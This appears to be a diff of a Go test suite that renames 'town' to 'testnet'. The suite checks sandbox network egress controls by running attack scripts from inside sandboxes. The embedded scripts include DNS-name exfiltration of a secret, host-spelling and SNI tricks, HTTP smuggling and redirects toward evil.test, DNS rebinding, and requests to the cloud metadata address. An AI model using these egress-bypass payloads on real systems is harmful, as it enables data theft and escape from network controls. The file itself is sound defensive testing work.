@@ -9,26 +9,26 @@ import (
 	"testing"
 )
 
-// The resolver's questions and the connections that the sandboxes of a town may make.
+// The resolver's questions and the connections that the sandboxes of a test network may make.
 const (
 	asksResolver = "udp 127.0.0.53:53"
-	toAllowed80  = "tcp " + townAllowed + ":80"
-	toAllowed443 = "tcp " + townAllowed + ":443"
-	toDatabase   = "tcp " + townAllowed + ":5432"
+	toAllowed80  = "tcp " + testnetAllowed + ":80"
+	toAllowed443 = "tcp " + testnetAllowed + ":443"
+	toDatabase   = "tcp " + testnetAllowed + ":5432"
 )
 
-// TestWaysOut tries what is known to lead out of sandboxes, from inside one of each
+// TestNetworksOut tries what is known to lead out of sandboxes, from inside one of each
 // engine. D01 to D10 are the names that these attacks have where they are collected.
-func TestWaysOut(t *testing.T) {
-	onEngines(t, waysOut)
+func TestNetworksOut(t *testing.T) {
+	onEngines(t, networksOut)
 }
 
-func waysOut(t *testing.T, engine, settings string) {
-	w := newTown(t, "version: 1\nmin_tier: namespace\nengine: "+engine+"\nprofiles: {few: {egress: {limits: {bytes_out: 64KiB}}}}\n", settings)
+func networksOut(t *testing.T, engine, settings string) {
+	w := newTestnet(t, "version: 1\nmin_tier: namespace\nengine: "+engine+"\nprofiles: {few: {egress: {limits: {bytes_out: 64KiB}}}}\n", settings)
 	w.must("create", "--name", "box", "--allow", "allowed.test", "--allow", "*.wild.test", "--allow", "db.test:5432")
 	for _, c := range []struct {
 		name string
-		run  func(*testing.T, *town)
+		run  func(*testing.T, *testnet)
 		gate bool // it is about what decides, which is the same behind every link
 	}{
 		{"D00 an empty list sends nothing at all", nothingLeaves, false},
@@ -65,7 +65,7 @@ func waysOut(t *testing.T, engine, settings string) {
 }
 
 // none fails if anything left, but for what is named.
-func (w *town) none(but ...string) {
+func (w *testnet) none(but ...string) {
 	w.t.Helper()
 	if out := w.gone(but...); len(out) > 0 {
 		w.t.Errorf("left: %q", out)
@@ -73,7 +73,7 @@ func (w *town) none(but ...string) {
 	names, requests := w.heard()
 	for _, q := range requests {
 		host, _, _ := strings.Cut(strings.ToLower(strings.TrimSuffix(q.host, ".")), ":")
-		if strings.TrimSuffix(host, ".") != "allowed.test" || q.sni != "" && q.sni != "allowed.test" || !strings.HasPrefix(q.at, townAllowed+":") {
+		if strings.TrimSuffix(host, ".") != "allowed.test" || q.sni != "" && q.sni != "allowed.test" || !strings.HasPrefix(q.at, testnetAllowed+":") {
 			w.t.Errorf("served: %+v", q)
 		}
 	}
@@ -106,7 +106,7 @@ for port in (53, 123, 443, 4500, 5353):
             pass
 `
 
-func nothingLeaves(_ *testing.T, w *town) {
+func nothingLeaves(_ *testing.T, w *testnet) {
 	w.must("create", "--name", "empty", "--net", "on")
 	w.attack("empty", tryEverything)
 	w.none()
@@ -116,7 +116,7 @@ func nothingLeaves(_ *testing.T, w *town) {
 	w.must("rm", "-f", "empty", "without")
 }
 
-func dataInNames(t *testing.T, w *town) {
+func dataInNames(t *testing.T, w *testnet) {
 	w.attack("box", `
 import base64
 data = base64.b32encode(b'the whole of a secret key').strip(b'=').lower()
@@ -158,7 +158,7 @@ print(ask([b'a', b'wild', b'test']))
 	w.none()
 }
 
-func otherSpellings(_ *testing.T, w *town) {
+func otherSpellings(_ *testing.T, w *testnet) {
 	out := w.attack("box", `
 good = [b'allowed.test', b'ALLOWED.Test', b'allowed.test.', b'allowed.test:80']
 bad = [b'evil.test', b'allowed.test\x00.evil.test', b'allowed.test%00.evil.test', b'allowed.test@evil.test', b'evil.test@allowed.test', b'evil.test#allowed.test',
@@ -195,7 +195,7 @@ if n != 1:
 	w.none(asksResolver, toAllowed80)
 }
 
-func anotherHostInside(t *testing.T, w *town) {
+func anotherHostInside(t *testing.T, w *testnet) {
 	w.attack("box", `
 c = ssl.create_default_context()
 c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
@@ -272,13 +272,13 @@ openssl s_client -connect allowed.test:443 -servername allowed.test -sess_out /t
 	w.none(asksResolver, toAllowed80, toAllowed443)
 }
 
-func namesThatLeadElsewhere(t *testing.T, w *town) {
+func namesThatLeadElsewhere(t *testing.T, w *testnet) {
 	w.knows("cname.wild.test", "inner.corp", "10.0.0.5")
-	w.knows("good.wild.test", "cdn.example", townAllowed)
-	w.knows("several.wild.test", "127.0.0.1", "169.254.169.254", "10.0.0.9", townAllowed)
+	w.knows("good.wild.test", "cdn.example", testnetAllowed)
+	w.knows("several.wild.test", "127.0.0.1", "169.254.169.254", "10.0.0.9", testnetAllowed)
 	w.answers("rebind.wild.test", func(asked int) []string {
 		if asked == 0 {
-			return []string{townAllowed}
+			return []string{testnetAllowed}
 		}
 		return []string{"127.0.0.1"}
 	})
@@ -322,7 +322,7 @@ for i in range(1, 20):
 `)
 	names, requests := w.heard()
 	for _, q := range requests {
-		if strings.Contains(q.target, "bad") || !strings.HasPrefix(q.at, townAllowed+":") {
+		if strings.Contains(q.target, "bad") || !strings.HasPrefix(q.at, testnetAllowed+":") {
 			t.Errorf("served: %+v", q)
 		}
 	}
@@ -332,7 +332,7 @@ for i in range(1, 20):
 	w.none(asksResolver, toAllowed80)
 }
 
-func tunnels(t *testing.T, w *town) {
+func tunnels(t *testing.T, w *testnet) {
 	w.attack("box", `
 H = b'Host: allowed.test\r\n'
 evil = b'GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n'
@@ -406,7 +406,7 @@ except OSError:
 	w.none(asksResolver, toAllowed80)
 }
 
-func otherProtocols(_ *testing.T, w *town) {
+func otherProtocols(_ *testing.T, w *testnet) {
 	out := w.attack("box", `
 at = socket.gethostbyname('allowed.test')
 for host in (at, '93.184.215.14', '8.8.8.8', '10.88.0.1'):
@@ -491,11 +491,11 @@ for host in ('93.184.215.66', '8.8.8.8'):
 	w.none(asksResolver, toAllowed80)
 }
 
-func privateAddresses(t *testing.T, w *town) {
+func privateAddresses(t *testing.T, w *testnet) {
 	addrs := []string{
 		"127.0.0.1", "127.255.255.254", "0.0.0.0", "10.0.0.1", "10.88.0.1", "10.88.0.2", "100.64.0.1", "100.100.100.200", "169.254.169.254", "169.254.170.2", "169.254.1.1",
 		"172.16.0.1", "172.17.0.1", "192.0.0.192", "192.0.2.1", "192.168.0.1", "198.18.0.1", "198.19.255.255", "198.51.100.1", "203.0.113.1", "224.0.0.1", "240.0.0.1",
-		"255.255.255.255", "168.63.129.16", townOwn,
+		"255.255.255.255", "168.63.129.16", testnetOwn,
 		"::", "::1", "::127.0.0.1", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "64:ff9b:1::1", "2002:7f00:1::", "2001::1", "fd00:ec2::254", "fe80::1", "fec0::1", "ff02::1",
 		"2001:db8::1", "100::1",
 	}
@@ -527,7 +527,7 @@ for to in connected([(host, port) for host in ('10.88.0.1', '127.0.0.1', '93.184
 	w.none(asksResolver)
 }
 
-func moreBytes(t *testing.T, w *town) {
+func moreBytes(t *testing.T, w *testnet) {
 	const limit = 64 << 10
 	w.must("create", "--name", "few", "--profile", "few", "--allow", "db.test:5432")
 	w.mu.Lock()
@@ -559,7 +559,7 @@ print(send(1000), send(1 << 20), send(10), send(1))
 	w.none(asksResolver, toDatabase)
 }
 
-func redirects(t *testing.T, w *town) {
+func redirects(t *testing.T, w *testnet) {
 	w.must("exec", "box", "--", "sh", "-c", `
 for to in http://evil.test/x https://evil.test/x http://93.184.215.66/x http://169.254.169.254/latest/meta-data/ http://allowed.test@evil.test/ http://127.0.0.1:5432/ ftp://evil.test/ gopher://db.test:5432/_x; do
   out=$(curl -sS -L --max-time 30 --location-trusted -H 'Authorization: Bearer canary' "http://allowed.test/to/$to" 2>&1) && case $out in *served*) echo "LEAK $to $out"; exit 1;; esac
